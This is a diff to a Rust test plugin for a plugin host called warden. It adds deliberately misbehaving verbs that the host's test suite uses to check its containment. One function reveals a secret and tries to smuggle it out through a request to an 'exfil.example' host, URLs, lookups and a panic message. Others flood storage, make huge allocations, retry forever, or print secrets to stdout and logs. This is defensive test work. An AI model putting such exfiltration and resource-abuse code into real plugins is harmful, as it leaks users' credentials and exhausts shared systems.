@@ -1,6 +1,8 @@
 //! A plugin for warden's tests. The flow var `action` (`verb` or `verb:argument`)
-//! picks what `on_request` and `after_request` do; `on_escalate` always denies (which
-//! the host must refuse). See the match in [`act`] for the verbs.
+//! picks what `on_request` and `after_request` do (`after_action`, when set, overrides it
+//! for `after_request`); `on_escalate` always denies (which the host must refuse). See the
+//! match in [`act`] for the verbs. Verbs that call the host turn a refused call into a
+//! denial, or, with the flow var `errors = "fail"`, into an error (the hook fails closed).
 
 use std::hint::black_box;
 use std::sync::atomic::{AtomicU32, Ordering};
@@ -19,7 +21,10 @@ impl Plugin for Probe {
     }
 
     fn after_request(event: &Event) -> Result<Decision> {
-        act(event)
+        match event.var("after_action") {
+            Some(action) => act_on(event, action),
+            None => act(event),
+        }
     }
 
     fn on_escalate(_event: &Event) -> Result<Decision> {
@@ -28,7 +33,19 @@ impl Plugin for Probe {
 }
 
 fn act(event: &Event) -> Result<Decision> {
-    let action = event.var_or("action", "continue");
+    act_on(event, event.var_or("action", "continue"))
+}
+
+/// What a verb does with a host call that failed: deny with the error as the reason, or
+/// (with `errors = "fail"`) return the error.
+fn refused(event: &Event, error: impl std::fmt::Display) -> Result<Decision> {
+    if event.var("errors") == Some("fail") {
+        bail!("{error}")
+    }
+    Ok(Decision::deny(error.to_string()))
+}
+
+fn act_on(event: &Event, action: &str) -> Result<Decision> {
     let (verb, arg) = action.split_once(':').unwrap_or((action, ""));
     match verb {
         "continue" => Ok(Decision::Continue),
@@ -41,42 +58,76 @@ fn act(event: &Event) -> Result<Decision> {
             aliases.sort();
             Ok(Decision::approve(aliases.join(",")))
         }
-        "secret-open" => Ok(match open_secret(arg) {
-            Ok(secret) => Decision::approve(format!("opened {} at {}", secret.id(), secret.path())),
-            Err(error) => Decision::deny(error.to_string()),
-        }),
-        "secret-reveal" => Ok(match reveal(arg) {
-            Ok(value) => Decision::approve(value),
-            Err(error) => Decision::deny(error.to_string()),
-        }),
-        "log-secret" => Ok(match reveal(arg) {
+        "secret-open" => match open_secret(arg) {
+            Ok(secret) => Ok(Decision::approve(format!(
+                "opened {} at {}",
+                secret.id(),
+                secret.path()
+            ))),
+            Err(error) => refused(event, error),
+        },
+        "secret-reveal" => match reveal(arg) {
+            Ok(value) => Ok(Decision::approve(value)),
+            Err(error) => refused(event, error),
+        },
+        "log-secret" => match reveal(arg) {
             Ok(value) => {
                 log::info(&format!("the key is {value}"));
                 eprintln!("the key is {value}");
-                Decision::Continue
+                Ok(Decision::Continue)
             }
-            Err(error) => Decision::deny(error.to_string()),
-        }),
-        "http" => Ok(to_decision(plain_http(arg))),
-        "http-sealed" => Ok(to_decision(sealed_http(arg))),
+            Err(error) => refused(event, error),
+        },
+        "http" => to_decision(event, plain_http(arg)),
+        "http-sealed" => to_decision(event, sealed_http(arg)),
+        // Retries a call until it succeeds, as a careless plugin might: only the hook's
+        // deadline ends it when the call keeps failing.
+        "http-retry" => loop {
+            if let Ok(reason) = plain_http(arg) {
+                return Ok(Decision::approve(reason));
+            }
+        },
         "lookup" => {
             let (service, service_id) = two(arg)?;
-            Ok(match event.requester.identity(service, service_id) {
-                Ok(Some(identity)) => Decision::approve(identity.user_id),
-                Ok(None) => Decision::approve("none"),
-                Err(error) => Decision::deny(error.to_string()),
-            })
+            match event.requester.identity(service, service_id) {
+                Ok(Some(identity)) => Ok(Decision::approve(identity.user_id)),
+                Ok(None) => Ok(Decision::approve("none")),
+                Err(error) => refused(event, error),
+            }
         }
         "persist" => {
             let [service, service_id, user_id] = words(arg)?;
             let email = &event.requester.email;
-            Ok(
-                match persist_user_identity(email, service, service_id, user_id) {
-                    Ok(identity) => Decision::approve(format!("persisted {}", identity.user_id)),
-                    Err(error) => Decision::deny(error.to_string()),
-                },
-            )
+            match persist_user_identity(email, service, service_id, user_id) {
+                Ok(identity) => Ok(Decision::approve(format!("persisted {}", identity.user_id))),
+                Err(error) => refused(event, error),
+            }
         }
+        // `<count> <service> <service_id>`: one identity each for `count` made-up users.
+        "persist-flood" => {
+            let [count, service, service_id] = words(arg)?;
+            for i in 0..count.parse::<u32>()? {
+                let email = format!("user{i}@flood.example");
+                if let Err(error) = persist_user_identity(&email, service, service_id, "u") {
+                    return refused(event, format!("persist #{i}: {error}"));
+                }
+            }
+            Ok(Decision::approve(format!("persisted {count}")))
+        }
+        // `<bytes> <service> <service_id>`: the requester's identity with a huge user id.
+        "persist-huge" => {
+            let [bytes, service, service_id] = words(arg)?;
+            let user_id = "u".repeat(bytes.parse()?);
+            let email = &event.requester.email;
+            match persist_user_identity(email, service, service_id, &user_id) {
+                Ok(_) => Ok(Decision::approve("persisted")),
+                Err(error) => refused(event, error),
+            }
+        }
+        // Tries to smuggle the alias's revealed secret out through everything the host
+        // records: a host name, a URL, a secret id, an integration alias, a service id, a
+        // panic message.
+        "exfiltrate" => exfiltrate(arg),
         "cache-set" => {
             let [key, value, ttl] = words(arg)?;
             let ttl = Duration::from_secs(ttl.parse()?);
@@ -91,6 +142,12 @@ fn act(event: &Event) -> Result<Decision> {
         }),
         "loop" => spin(),
         "memory-bomb" => hoard(),
+        // One allocation far over any memory limit, in a single step.
+        "huge-alloc" => {
+            let mut buffer: Vec<u8> = Vec::with_capacity(arg.parse()?);
+            buffer.push(1);
+            Ok(Decision::approve(black_box(buffer).len().to_string()))
+        }
         "stack-overflow" => Ok(Decision::approve(recurse(0).to_string())),
         "panic" => panic!("probe panicked"),
         "error" => bail!("probe failed on purpose"),
@@ -105,6 +162,19 @@ fn act(event: &Event) -> Result<Decision> {
             }
             Ok(Decision::Continue)
         }
+        // `<alias> <reason_pad> <stdout_pad>`: the revealed value after padding, in the
+        // reason and on stdout, so the host's bounds cut through the middle of it.
+        "cut-secret" => {
+            let [alias, reason_pad, stdout_pad] = words(arg)?;
+            let value = reveal(alias)?;
+            // One write, so stdout's buffer does not hold the value back.
+            let out = format!("{}{value}", "x".repeat(stdout_pad.parse()?));
+            print!("{out}");
+            Ok(Decision::approve(format!(
+                "{}{value}",
+                "r".repeat(reason_pad.parse()?)
+            )))
+        }
         "big-reason" => Ok(Decision::approve("r".repeat(arg.parse()?))),
         "counter" => {
             // Survives between events only if the host reuses instances; it must not.
@@ -118,11 +188,22 @@ fn act(event: &Event) -> Result<Decision> {
     }
 }
 
-fn to_decision(result: Result<String>) -> Decision {
+fn to_decision(event: &Event, result: Result<String>) -> Result<Decision> {
     match result {
-        Ok(reason) => Decision::approve(reason),
-        Err(error) => Decision::deny(error.to_string()),
+        Ok(reason) => Ok(Decision::approve(reason)),
+        Err(error) => refused(event, error),
     }
+}
+
+fn exfiltrate(alias: &str) -> Result<Decision> {
+    let value = reveal(alias)?;
+    let _ = http::get(format!("http://{value}.exfil.example/")).send();
+    let _ = http::get(format!("not a url {value}")).send();
+    let _ = http::get(format!("http://127.0.0.1:9/{value}?k={value}")).send();
+    let _ = open_secret(&value);
+    let _ = integrations::get(&value);
+    let _ = warden_sdk::identities::lookup("a@example.com", "custom", &value);
+    panic!("giving up with {value}")
 }
 
 fn describe_integration(alias: &str) -> Decision {
